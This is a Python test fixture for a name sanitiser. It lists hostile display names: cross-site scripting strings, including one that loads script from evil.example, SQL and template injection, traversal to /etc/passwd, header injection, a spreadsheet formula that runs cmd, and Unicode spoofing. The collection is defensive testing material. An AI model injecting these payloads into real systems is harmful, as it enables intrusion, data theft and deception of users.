"""Names that attack whoever shows, stores, logs or exports them."""

from __future__ import annotations

PAYLOADS = (
    "<script>window.struck=1;alert(1)</script>",
    "<img src=x onerror=window.struck=1>",
    '"><svg onload=window.struck=1>',
    "' onmouseover='window.struck=1' autofocus onfocus='window.struck=1",
    "javascript:window.struck=1",
    "</title></table><script src=//evil.example/x.js></script>",
    '<iframe srcdoc="<script>parent.struck=1</script>">',
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "${7*7}#{7*7}",
    "&lt;b&gt;&amp;&#39;&quot;",
    "'; DROP TABLE alert; --",
    "1' OR '1'='1",
    "%s%n%(name)s:x",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%00",
    "%0d%0aSet-Cookie:struck=1",
    "a\r\nSet-Cookie: struck=1",
    'a"b\n\\c',
    "?model=x&limit=0#fragment",
    "//evil.example/x",
    "\u202egnp.exe\u2066",
    "pay\u200bpal\ufeff",
    "р\u0430ypal",  # noqa: RUF001 - two Cyrillic letters, which is the point
    "__proto__",
    "constructor",
    "=cmd|' /C calc'!A1",
    "\x1b[31mred\x1b]0;owned\x07",
    "nul\x00byte\x85\u2028",
    "x" * 200,
    "   ",
    "caf\u00e9",
    "cafe\u0301",
    "\U0001f4a9\U0001f469\u200d\U0001f4bb",
)
"""Each leaves a name, if a shorter one, after cleaning."""

NAMELESS = ("", "\u202e\u200b", "\n\r", "x" * 10_000)
"""Of these nothing is left, or too much."""
